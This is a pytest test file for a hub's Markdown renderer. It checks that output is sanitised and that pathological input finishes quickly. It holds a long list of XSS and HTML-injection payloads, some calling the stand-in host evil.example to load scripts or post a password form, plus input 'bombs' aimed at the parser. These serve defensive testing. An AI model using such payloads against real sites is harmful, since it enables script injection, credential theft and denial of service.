"""Markdown is rendered as people expect, and a stranger's text never runs, fetches or hangs."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hub.lib import markdown
from tests.harmless import faults

LINKS, RAW = "/alice/public/tree/main/", "/alice/public/raw/main/"

PAYLOADS = [
    # live elements
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x`<script>alert(1)</script>"` onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>1</script></svg>#x'/></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text x=20 y=20>x</text></a></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<embed src='javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    "<form action=//evil.example><input type=password name=p><button>ok</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=//evil.example/a.mp3 autoplay></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style='position:fixed;inset:0' id=login class=topbar>x</div>",
    "<p hx-get=/settings hx-trigger=load data-upload>x</p>",
    # mutation: what one parser closes, another opens
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi><!--</mi><img src=x onerror=alert(1)>--></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><img src=x onerror=alert(1)>",
    # addresses
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](\\\\evil.example\\pixel.png)",
    "<img srcset='//evil.example/p.png 2x' src=a.png>",
    "<a href=x ping=//evil.example>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    # our own extensions
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$$\\href{javascript:alert(1)}{x}$$",
    "$\\style{background:url(//evil.example)}{x}$",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "[^<script>]: <img src=x onerror=alert(1)>\n\nx[^<script>]",
    "# <img src=x onerror=alert(1)>\n",
    "- [ ] <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> |\n|--|\n| <script>1</script> |",
    "---\ntitle: <script>alert(1)</script>\n---\n",
    "www.evil.example/<script>alert(1)</script>",
    "<a id=login name=csrf><p id=main>",
]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("frame", ["{}", "> {}", "- {}", "<div>\n\n{}\n\n</div>", "**{}**"])
def test_it_disarms(payload, frame):
    assert faults(markdown.render(frame.format(payload), link_base=LINKS, raw_base=RAW)) == []
    assert faults(markdown.render(frame.format(payload), link_base="", raw_base="")) == []


def test_the_reader_of_these_tests_sees_what_is_live():
    raw = [p for p in PAYLOADS if p.startswith(("<script>", "<img src=x", "<svg", "<form", "<p style", "<base"))]
    assert len(raw) > 7
    for payload in raw:
        assert faults(payload)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from([*PAYLOADS, "<b>", "</b>", "<p>", "</table>", "`", "\n", "\n\n", "]]>", "-->", "$"])))
def test_it_disarms_any_mixture(parts):
    assert faults(markdown.render("".join(parts), link_base=LINKS, raw_base=RAW)) == []


def show(text: str, directory: str = "") -> str:
    return markdown.render(text, link_base=LINKS, raw_base=RAW, directory=directory)


@pytest.mark.parametrize(
    ("written", "directory", "expected"),
    [
        ("[x](a.md)", "", 'href="/alice/public/tree/main/a.md"'),
        ("[x](a.md)", "docs", 'href="/alice/public/tree/main/docs/a.md"'),
        ("[x](../a.md)", "docs", 'href="/alice/public/tree/main/a.md"'),
        ("[x](/a.md)", "docs", 'href="/alice/public/tree/main/a.md"'),
        ("[x](../../../../settings)", "docs", 'href="/alice/public/tree/main/settings"'),
        ("[x](a%20b/ü.md#Part)", "", 'href="/alice/public/tree/main/a%20b/%C3%BC.md#user-content-Part"'),
        ("[x](train.py#L3-L9)", "", 'href="/alice/public/tree/main/train.py#L3-L9"'),
        ("[x](#part)", "docs", 'href="#user-content-part"'),
        ("[x](https://example.org/)", "", 'href="https://example.org/"'),
        ("![x](plot.png)", "docs", 'src="/alice/public/raw/main/docs/plot.png"'),
        ('<img src="../plot.png" width="200">', "docs", 'src="/alice/public/raw/main/plot.png"'),
        ("# A *title*", "", '<h1 id="user-content-a-title">'),
        ("| a |\n|--:|\n| 1 |", "", '<td align="right">1</td>'),
        ("- [x] done", "", "checked"),
        ("~~gone~~", "", "<s>gone</s>"),
        ("a[^1]\n\n[^1]: b", "", 'id="user-content-fn1"'),
        ("$\\frac{a}{b}$", "", "<mfrac>"),
        ("$a<b$", "", "&lt;"),
        ("$\\text{a<b}$", "", "a&lt;b"),
        ("$\\begin{nonsense$", "", "\\begin{nonsense"),
        ("It costs $5 and $6.", "", "It costs $5 and $6."),
        ("```python\nx = 1\n```", "", 'x = <span class="mi">1</span>'),
        ("see https://example.org/a", "", 'href="https://example.org/a"'),
        ("---\ntitle: hidden\n---\ntext", "", "<p>text</p>"),
    ],
)
def test_it_renders(written, directory, expected):
    assert expected in show(written, directory)


def test_front_matter_is_not_shown():
    assert "hidden" not in show("---\ntitle: hidden\n---\ntext")


def test_every_link_says_it_is_not_ours():
    assert 'rel="nofollow noopener noreferrer"' in show("[x](https://example.org)")


BOMBS = {
    "brackets": "[" * 60_000,
    "links": "[a](" * 40_000,
    "images": "![" * 60_000,
    "emphasis": "a**b" * 50_000,
    "quotes": ">" * 60_000,
    "backticks": "".join("`" * i + " " for i in range(300)),
    "tags": "<div>" * 100_000,
    "formatting": "".join(f"<b id={i}>" for i in range(3_000)) + "<p>" * 100_000,
    "headings": "# a\n" * 50_000,
    "tasks": "- [ ] x\n" * 50_000,
    "footnotes": "^[" * 60_000,
    "table": "|a" * 300 + "\n" + "|-" * 300 + "\n" + "|\n" * 3_000,
    "formulas": "$\\frac{a}{b}$ " * 20_000,
    "nested formula": "$" + "\\sqrt{" * 300 + "}" * 300 + "$",
    "addresses": "http://" * 40_000,
    "mail": "a@" * 60_000,
    "long": "word " * 600_000,
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_ends_soon(name):
    start = time.process_time()  # of the processor: others may be at work on the machine
    assert markdown.render(BOMBS[name], link_base="", raw_base="")
    assert time.process_time() - start < 10


@pytest.mark.parametrize("deep", [20, 48, 49, 50, 98, 200])
def test_nothing_is_left_out_however_deep_it_stands(deep):
    lists = "\n".join("  " * level + f"- {level}" for level in range(deep))
    for text in ("> " * deep + "below", "> " + "- " * deep + "below", f"{lists}\n{'  ' * deep}- below"):
        assert "below" in show(text)


def test_what_takes_too_long_is_shown_as_written():
    shown = markdown.render("# a\n" * 50_000, link_base="", raw_base="")
    assert 'class="note"' in shown
    assert "# a\n# a" in shown
